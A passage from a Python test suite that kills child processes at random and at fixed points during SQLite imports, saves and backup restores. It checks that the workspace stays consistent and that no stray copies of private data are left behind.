            value = int(row[0]) + 1
            tx.execute("INSERT INTO events (at, kind, data) VALUES (?, 'tick', ?)",
                       (now_iso(), json.dumps({"seq": value})))
            tx.execute("UPDATE meta SET value = ? WHERE key = 'counter'", (str(value),))

    def do_restore():
        exports.restore_backup(ws, backup, "infoint-backup.zip")

    ops = [("import", do_import), ("save", do_save), ("event", do_event), ("restore", do_restore)]
    say("ready")
    i = first
    while True:
        name, op = ops[i % len(ops)]
        say("start " + name)
        op()
        say("done " + name)
        i += 1
    """
)

# (first step of the child's loop, the line the kill delay counts from)
AIMS = [
    (0, "ready"),  # anywhere in an import
    (0, "phase import:write"),  # the import's one transaction
    (1, "ready"),  # step 1's save, its event, then a restore
    (2, "ready"),  # a counted event, then a restore
    (3, "phase restore:scratch"),  # the restore's scratch copy
    (3, "phase restore:replace"),  # the restore's one transaction
]
FIXED_TABLES = (
    "organizations",
    "drafts",
    "meetings",
    "custom_questions",
    "debriefs",
    "action_items",
)
JSON_COLUMNS = {
    "objective": ("kinds", "roles", "organizations", "goals", "plan"),
    "events": ("data",),
    "contacts": ("alt_titles",),
    "meetings": ("checklist", "research", "questions"),
    "custom_questions": ("themes",),
    "debriefs": ("answers", "reflection"),
}


def page_rows(token: str) -> dict[str, dict]:
    profile = Profile(
        name="Tester " + token, email="t@example.org", timezone="UTC", pitch="Pitch <b>" + token
    )
    objective = Objective(
        kinds=["role"], field_of_interest="Field " + token, goals=["goal " + token]
    )
    return {"profile": profile.to_row(), "objective": objective.to_row()}


def fingerprint(w: Workspace) -> str:
    """What the child never writes except by restoring: it is the initial state's or the
    backup's."""
    parts = {t: w.query(f"SELECT * FROM {t} ORDER BY id") for t in FIXED_TABLES}
    parts["contacts"] = w.query("SELECT * FROM contacts WHERE source != 'linkedin' ORDER BY id")
    parts["meta"] = w.query("SELECT * FROM meta WHERE key != 'counter' ORDER BY key")
    return hashlib.sha256(
        json.dumps(parts, sort_keys=True, ensure_ascii=False).encode()
    ).hexdigest()


def seed_workspace(path: Path, origin: str, ticks: int, journal: str | None) -> None:
    """The sample data (varied by origin), the page rows, ``ticks`` counted events."""
    rows = sample_rows()
    rows["meta"].append({"key": "origin", "value": origin})
    rows["meta"].append({"key": "counter", "value": str(ticks)})
    rows["organizations"][0]["notes"] = f"{origin} {FORMULA}"
    rows["drafts"][0]["body"] = f"{origin} draft"
    with Workspace.open(path, journal=journal) as w:
        with w.transaction() as tx:
            tx.execute("DELETE FROM meta")
            insert_rows(tx, {k: v for k, v in rows.items() if k not in ("profile", "objective")})
            for n in range(1, ticks + 1):
                tx.execute(
                    "INSERT INTO events (at, kind, data) VALUES (?, 'tick', ?)",
                    (T0, json.dumps({"seq": n})),
                )
        w.put_rows(page_rows(origin))


def check_invariants(
    path: Path, journal: str | None, fingerprints: dict[str, str], checked: set[Path]
) -> str:
    """Everything a kill must never break; returns which state the fixed tables are in."""
    try:
        w = Workspace.open(path, journal=journal)  # runs the integrity check
    except WorkspaceError as exc:
        pytest.fail(f"the workspace no longer opens after a kill: {exc}")
    with w:
        assert w.schema_version == SCHEMA_VERSION
        assert w.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        for table in w.tables():
            info = w.conn.execute(f"PRAGMA table_info({wsmod.quote_name(table)})").fetchall()
            for column in (r[1] for r in info if r[3]):
                assert not w.query(f"SELECT 1 FROM {table} WHERE {column} IS NULL LIMIT 1"), (
                    f"{table}.{column} NULL"
                )
            for column in JSON_COLUMNS.get(table, ()):
                for row in w.query(f"SELECT {column} AS v FROM {table}"):
                    json.loads(row["v"])
        # Imports are all or nothing: every imported batch is complete.
        linkedin = w.query("SELECT profile_url FROM contacts WHERE source = 'linkedin'")
        assert len(linkedin) % IMPORT_SIZE == 0, (
            f"{len(linkedin)} imported contacts: a partial import"
        )
        batches = Counter(r["profile_url"].rsplit("/", 1)[1].rsplit("-", 1)[0] for r in linkedin)
        assert set(batches.values()) <= {IMPORT_SIZE}, batches
        # The counter and its events were written together; no event lost or doubled.
        ticks = [
            json.loads(r["data"])["seq"]
            for r in w.query("SELECT data FROM events WHERE kind = 'tick' ORDER BY id")
        ]
        assert int(w.get_meta("counter")) == len(ticks)
        assert ticks == list(range(1, len(ticks) + 1))
        # Step 1's save: profile and objective together or not at all.
        profile, objective = (
            Profile.from_row(w.get_row("profile")),
            Objective.from_row(w.get_row("objective")),
        )
        token = profile.name.removeprefix("Tester ")
        assert objective.field_of_interest == "Field " + token and objective.goals == [
            "goal " + token
        ]
        assert profile.pitch == "Pitch <b>" + token
        # A restore was applied entirely or not at all.
        state = {v: k for k, v in fingerprints.items()}.get(fingerprint(w))
        assert state is not None, (
            "the fixed tables are neither the initial state nor the backup's: a partial restore"
        )
        assert w.get_meta("origin") == state
        # Every safety copy is a complete, readable backup, private.
        folder = path.parent / "backups"
        for copy in set(folder.iterdir() if folder.exists() else ()) - checked:
            assert mode(copy) == 0o600
            exports.read_backup(copy.read_bytes(), copy.name)
            checked.add(copy)
        return state


def prepare_crash_test(
    tmp_path: Path, opened_with: str | None
) -> tuple[Path, Path, dict[str, str]]:
    """The workspace (initial state), a backup file (other fixed data, one complete import,
    five counted events), and the fingerprints of both."""
    source = tmp_path / "source" / "workspace.sqlite3"
    seed_workspace(source, "backup", 5, None)
    with Workspace.open(source) as w:
        header = ",".join(headings.LINKEDIN_HEADER)
        text = "\n".join(
            ["Notes:", "", header]
            + [
                f"Ana{i},Backup,https://www.linkedin.com/in/backup-{i},,Acme,Designer,"
                for i in range(IMPORT_SIZE)
            ]
        )
        plan = imports.read_contacts((text + "\n").encode(), "Connections.csv")
        targets.apply_merge(w, imports.plan_merge([], plan), [])
        backup_file = tmp_path / "infoint-backup.zip"
        backup_file.write_bytes(exports.backup_bytes(w))
        fingerprints = {"backup": fingerprint(w)}
    path = tmp_path / "ws" / "workspace.sqlite3"
    seed_workspace(path, "initial", 0, opened_with)
    with Workspace.open(path, journal=opened_with) as w:
        fingerprints["initial"] = fingerprint(w)
    return path, backup_file, fingerprints


@pytest.mark.slow  # 60 processes killed at random points, each state checked: about 25 s
@pytest.mark.parametrize(
    "journal, kills",
    [("wal", 50), ("delete", 10)],
    ids=["wal-50-kills", "rollback-journal-10-kills"],
)
def test_killed_at_random_points_during_imports_and_saves(tmp_path, journal, kills):
    opened_with = None if journal == "wal" else journal
    path, backup_file, fingerprints = prepare_crash_test(tmp_path, opened_with)

    rng = random.Random(20240607 if journal == "wal" else 1789)
    interrupted, states, checked = Counter(), Counter(), set()

    def spawn(n: int) -> tuple[subprocess.Popen, str]:
        first, anchor = AIMS[n % len(AIMS)]
        proc = subprocess.Popen(
            [
                sys.executable,
                "-c",
                CRASHER,
                str(path),
                str(backup_file),
                str(first),
                str(IMPORT_SIZE),
            ],
            env=child_env(journal),
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        return proc, anchor

    def lines_until(proc: subprocess.Popen, marker: str) -> list[str]:
        seen = []
        while not seen or seen[-1] != marker:
            line = proc.stdout.readline()
            if not line:
                proc.kill()
                pytest.fail(f"the child stopped by itself:\n{proc.stderr.read()[-3000:]}")
            seen.append(line.strip())
        return seen

    # The next child starts (and imports the package) while the previous kill is checked; it
    # opens the workspace only when told to. Its first step and the marker the random delay
    # counts from come from AIMS, so the kills land in every step.
    upcoming = spawn(0)
    for n in range(kills):
        proc, anchor = upcoming
        lines_until(proc, "loaded")
        proc.stdin.write("go\n")
        proc.stdin.flush()
        seen = lines_until(proc, anchor)
        time.sleep(rng.uniform(0.005, 0.300))
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=60)
        if n + 1 < kills:
            upcoming = spawn(n + 1)
        seen += proc.stdout.read().splitlines()
        err = proc.stderr.read()
        for pipe in (proc.stdin, proc.stdout, proc.stderr):
            pipe.close()
        assert proc.returncode == -signal.SIGKILL, f"the child stopped by itself:\n{err[-3000:]}"
        last = [ln for ln in seen if ln.startswith(("start ", "done ", "phase "))][-1]
        interrupted["between steps" if last.startswith("done") else last.replace("start ", "")] += 1
        states[check_invariants(path, opened_with, fingerprints, checked)] += 1
    print(
        f"\n{journal}: kills interrupted {dict(sorted(interrupted.items()))}; "
        f"fixed tables after kills {dict(states)}"
    )
    assert sum(v for k, v in interrupted.items() if k != "between steps") >= kills // 2, interrupted


def test_a_restore_killed_midway_leaves_no_copy_of_the_data_behind(tmp_path):
    """privacy.md lists every file the workbook keeps (the workspace, its -wal/-shm/-journal and
    ``backups/``); a restore killed after it made its scratch copy must not leave another full
    copy of the user's data beside them, where "delete everything" would miss it."""
    folder = tmp_path / "ws"
    path = folder / "workspace.sqlite3"
    scratch_tmp = tmp_path / "tmp"
    scratch_tmp.mkdir()
    with Workspace.open(path) as w:
        w.put_rows(page_rows("private"))
        w.write(
            inserts={
                "contacts": [
                    {"first_name": f"Person {i}", "notes": "private note"} for i in range(200)
                ]
            }
        )
        backup_file = tmp_path / "infoint-backup.zip"
        backup_file.write_bytes(exports.backup_bytes(w))
    stuck = textwrap.dedent(
        """
        import sys, time
        from pathlib import Path
        from infoint import exports
        from infoint.workspace import Workspace
        def replace_from(self, source):
            print("scratch ready", flush=True)
            time.sleep(600)
        Workspace._replace_from = replace_from
        ws = Workspace.open(sys.argv[1])
        exports.restore_backup(ws, Path(sys.argv[2]).read_bytes())
        """
    )
    env = {**child_env("wal"), "TMPDIR": str(scratch_tmp)}
    proc = subprocess.Popen(
        [sys.executable, "-c", stuck, str(path), str(backup_file)],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert proc.stdout.readline().strip() == "scratch ready", proc.communicate(timeout=60)[1][
        -3000:
    ]
    proc.send_signal(signal.SIGKILL)
    proc.communicate(timeout=60)
    # The next session opens the workbook and restores again, normally.
    with Workspace.open(path) as w:
        exports.restore_backup(w, backup_file.read_bytes())
        assert w.get_row("profile")["name"] == "Tester private"
    documented = {
        "workspace.sqlite3",
        "workspace.sqlite3-wal",
        "workspace.sqlite3-shm",
        "workspace.sqlite3-journal",
        "backups",
    }
    left = sorted(p.name for p in folder.iterdir() if p.name not in documented) + sorted(
        p.name for p in scratch_tmp.iterdir()
    )
    assert left == [], f"left beside the workspace after a killed restore: {left}"


MIDWAY = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from infoint import exports, headings, imports, targets
    from infoint.objectives import Objective, Profile
    from infoint.workspace import Workspace

    path, backup_path, what, n = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    ws = Workspace.open(path)
    seen = {"rows": 0}

    def stop():
        print("midway", flush=True)
        time.sleep(600)

    def trace(sql):  # called as each statement starts, inside the transaction
        if what == "restore" and sql.startswith('DELETE FROM main."contacts"'):
            stop()  # profile, objective, meta, events and organizations are already replaced
        elif what == "import" and sql.startswith('INSERT INTO "contacts"'):
            seen["rows"] += 1
            if seen["rows"] == n // 2:
                stop()  # half the import's rows are in
        elif what == "save" and sql.startswith('INSERT INTO "objective"'):
            stop()  # the profile is saved, the objective not yet

    ws.conn.set_trace_callback(trace)
    # A tiny page cache makes SQLite spill changed pages to the file before the commit, so the
    # rollback journal (or the WAL's uncommitted frames) is really needed to undo them.
    ws.conn.execute("PRAGMA cache_size = 4")
    if what == "restore":
        exports.restore_backup(ws, Path(backup_path).read_bytes())
    elif what == "import":
        header = ",".join(headings.LINKEDIN_HEADER)
        text = "\\n".join([header] + [
            f"Midway{i},Person,https://www.linkedin.com/in/midway-{i},,Acme,Designer,"
            for i in range(n)
        ])
        plan = imports.read_contacts((text + "\\n").encode(), "Connections.csv")
        existing = targets.load_contacts(ws)
        targets.apply_merge(ws, imports.plan_merge(existing, plan), existing)
    else:
        ws.put_rows({"profile": Profile(name="Tester midway").to_row(),
                     "objective": Objective(field_of_interest="Field midway").to_row()})
    print("finished", flush=True)
    """
)


@pytest.mark.parametrize("journal", ["wal", "delete"])
@pytest.mark.parametrize("what", ["restore", "import", "save"])
def test_killed_inside_a_transaction_changes_nothing(tmp_path, journal, what):
    """The deterministic complement of the random kills: stopped half-way through the one
    transaction of a restore, an import or a step-1 save, the workspace is exactly as before."""
    opened_with = None if journal == "wal" else journal
    path, backup_file, fingerprints = prepare_crash_test(tmp_path, opened_with)
    with Workspace.open(path, journal=opened_with) as w:
        before = w.dump()
    proc = subprocess.Popen(
        [sys.executable, "-c", MIDWAY, str(path), str(backup_file), what, str(IMPORT_SIZE)],
        env=child_env(journal),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    line = proc.stdout.readline().strip()
    if line != "midway":
        proc.kill()
        pytest.fail(f"the child did not stop midway ({line!r}):\n{proc.communicate()[1][-3000:]}")
    journal_file = Path(str(path) + "-journal")
    if journal == "delete":
        assert journal_file.exists(), "a write is under way: its rollback journal is on disk"
    proc.send_signal(signal.SIGKILL)
    proc.communicate(timeout=60)
    assert check_invariants(path, opened_with, fingerprints, set()) == "initial"
    with Workspace.open(path, journal=opened_with) as w:
        assert w.dump() == before
        w.set_meta("after", "the kill")  # the next write works and clears any stale journal
    assert not journal_file.exists()
